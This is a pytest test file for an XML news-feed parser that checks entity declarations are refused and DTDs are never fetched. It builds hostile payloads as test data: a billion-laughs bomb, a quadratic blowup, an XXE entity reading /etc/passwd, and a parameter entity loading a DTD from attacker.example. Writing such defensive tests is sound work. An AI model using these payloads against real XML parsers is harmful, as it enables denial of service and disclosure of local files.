"""XML from a feed is untrusted: entity bombs, XXE and DTDs, for every XML format."""

from __future__ import annotations

import socket
import time
import tracemalloc
import warnings
from pathlib import Path

import pytest

import wirecopy
from wirecopy import ParseError, SkippedDocumentWarning

# Each format's smallest document, to put after a hostile prolog.
ROOTS = {
    "nitf": "<nitf><body><body.content><p>{body}</p></body.content></body></nitf>",
    "newsml-g2": (
        '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="g" standard="NewsML-G2" standardversion="2.24">'
        '<itemMeta><itemClass qcode="ninat:text"/><provider literal="p"/></itemMeta>'
        "<contentSet><inlineData>{body}</inlineData></contentSet></newsItem>"
    ),
    "newsml-1": (
        '<NewsML><NewsItem><NewsComponent><ContentItem><MediaType FormalName="Text"/>'
        "<DataContent>{body}</DataContent></ContentItem></NewsComponent></NewsItem></NewsML>"
    ),
    "rcv1-xml": '<newsitem itemid="1" date="1996-08-20"><text><p>{body}</p></text></newsitem>',
}
FORMATS = sorted(ROOTS)
REFUSED = (
    "entity declarations are refused (entity {name!r}): XML from a feed is untrusted, "
    "and entities can expand without bound or read local files (at attack.xml, line {line}, column {column})"
)


def billion_laughs(root: str) -> str:
    levels = ['  <!ENTITY lol0 "lol">']
    levels += [f'  <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return '<?xml version="1.0"?>\n<!DOCTYPE x [\n' + "\n".join(levels) + "\n]>\n" + root.format(body="&lol9;")


def quadratic_blowup(root: str) -> str:
    return '<!DOCTYPE x [<!ENTITY big "' + "x" * 100_000 + '">]>\n' + root.format(body="&big;" * 100_000)


def external_entity(root: str) -> str:
    return '<!DOCTYPE x [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n' + root.format(body="&xxe;")


def parameter_entity(root: str) -> str:
    return '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>' + root.format(
        body="x"
    )


ATTACKS = {
    "billion-laughs": (billion_laughs, "lol0", 3, 3),
    "quadratic-blowup": (quadratic_blowup, "big", 1, 14),
    "xxe": (external_entity, "xxe", 2, 1),
    "parameter-entity": (parameter_entity, "remote", 1, 14),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("name", FORMATS)
def test_attack_is_refused_under_strict(name: str, attack: str) -> None:
    """Each attack ends in a ParseError naming the entity and where it is declared."""
    build, entity, line, column = ATTACKS[attack]
    with pytest.raises(ParseError) as info:
        wirecopy.loads(build(ROOTS[name]), name, errors="strict", filename="attack.xml")
    assert str(info.value) == REFUSED.format(name=entity, line=line, column=column)
    assert info.value.kind == "entity-declaration"


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("name", FORMATS)
def test_attack_is_fast_and_small(name: str, attack: str) -> None:
    """Refusing an attack takes well under a second and a few megabytes, whatever it would expand to."""
    data = ATTACKS[attack][0](ROOTS[name]).encode()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        reader = wirecopy.load(__import__("io").BytesIO(data), name, errors="skip")
        assert list(reader) == []
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [error.kind for error in reader.skipped] == ["entity-declaration"]
    assert elapsed < 1.0
    assert peak < 8 * len(data) + 4_000_000


@pytest.mark.parametrize("name", FORMATS)
def test_attack_is_skipped_with_a_warning(name: str) -> None:
    """Under warn, the hostile document is left out with a warning, and nothing else happens."""
    with pytest.warns(SkippedDocumentWarning, match="entity declarations are refused"):
        assert wirecopy.loads(billion_laughs(ROOTS[name]), name) == []


@pytest.mark.parametrize("name", FORMATS)
def test_local_dtd_is_never_read(name: str, tmp_path: Path) -> None:
    """A DTD on disk is not read: an entity it defines stays undefined, and its text never leaks."""
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "LEAKED-FROM-DISK">', encoding="utf-8")
    document = f'<!DOCTYPE x SYSTEM "{dtd.as_uri()}">' + ROOTS[name].format(body="&secret;")
    with pytest.raises(ParseError) as info:
        wirecopy.loads(document, name, errors="strict", filename="attack.xml")
    column = len(document) - len(ROOTS[name].format(body="&secret;")) + ROOTS[name].index("{body}") + 1
    assert str(info.value) == f"invalid XML: undefined entity (at attack.xml, line 1, column {column})"
    assert "LEAKED" not in str(info.value)


@pytest.mark.parametrize("name", FORMATS)
def test_network_dtd_is_never_fetched(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A DTD named by URL (as the NYT corpus names nitf-3-3.dtd) is not fetched: no socket is opened."""
    opened: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        opened.append(args)
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    document = '<!DOCTYPE x SYSTEM "http://www.nitf.org/IPTC/NITF/3.3/specification/dtd/nitf-3-3.dtd">' + ROOTS[
        name
    ].format(body="Safe text.")
    [article] = wirecopy.loads(document, name, errors="strict")
    assert article.paragraphs == ("Safe text.",)
    assert opened == []


def test_relative_dtd_is_not_needed() -> None:
    """A DTD that is not there (the fishing sample's ../dtd/nitf-3-2.dtd) does not stop reading."""
    document = '<!DOCTYPE nitf SYSTEM "../dtd/nitf-3-2.dtd">\n' + ROOTS["nitf"].format(body="Text.")
    [article] = wirecopy.loads(document, "nitf", errors="strict")
    assert article.paragraphs == ("Text.",)


def test_harmless_internal_subset_is_allowed() -> None:
    """A DOCTYPE whose internal subset declares no entity (only attribute lists) is read."""
    document = '<!DOCTYPE nitf [<!ATTLIST nitf baselang CDATA "en">]>' + ROOTS["nitf"].format(body="Text.")
    [article] = wirecopy.loads(document, "nitf", errors="strict")
    assert article.paragraphs == ("Text.",)


def test_hostile_document_after_a_good_one() -> None:
    """In a file of several documents, the good one is returned and the hostile one refused."""
    good = "<nitf><body><body.content><p>Good.</p></body.content></body></nitf>\n"
    data = good + billion_laughs(ROOTS["nitf"]).replace('<?xml version="1.0"?>\n', "")
    reader = wirecopy.load(__import__("io").BytesIO(data.encode()), "nitf", errors="skip")
    assert [article.paragraphs for article in reader] == [("Good.",)]
    assert [str(error) for error in reader.skipped] == [
        "entity declarations are refused (entity 'lol0'): XML from a feed is untrusted, "
        "and entities can expand without bound or read local files (at line 3, column 3)"
    ]


def test_entity_text_in_cdata_after_the_root_is_content() -> None:
    """The words "<!ENTITY" inside a CDATA section are text, not a declaration."""
    document = ROOTS["nitf"].format(body='<![CDATA[Write <!ENTITY x "y"> to declare one.]]>')
    [article] = wirecopy.loads(document, "nitf", errors="strict")
    assert article.paragraphs == ('Write <!ENTITY x "y"> to declare one.',)


def test_predefined_and_character_references_still_work() -> None:
    """The five predefined entities and numeric references are not entity declarations."""
    document = ROOTS["nitf"].format(body="&lt;a&gt; &amp; &quot;b&quot; &apos;c&apos; &#229; &#x2014;")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        [article] = wirecopy.loads(document, "nitf", errors="strict")
    assert article.paragraphs == ("<a> & \"b\" 'c' \u00e5 \u2014",)
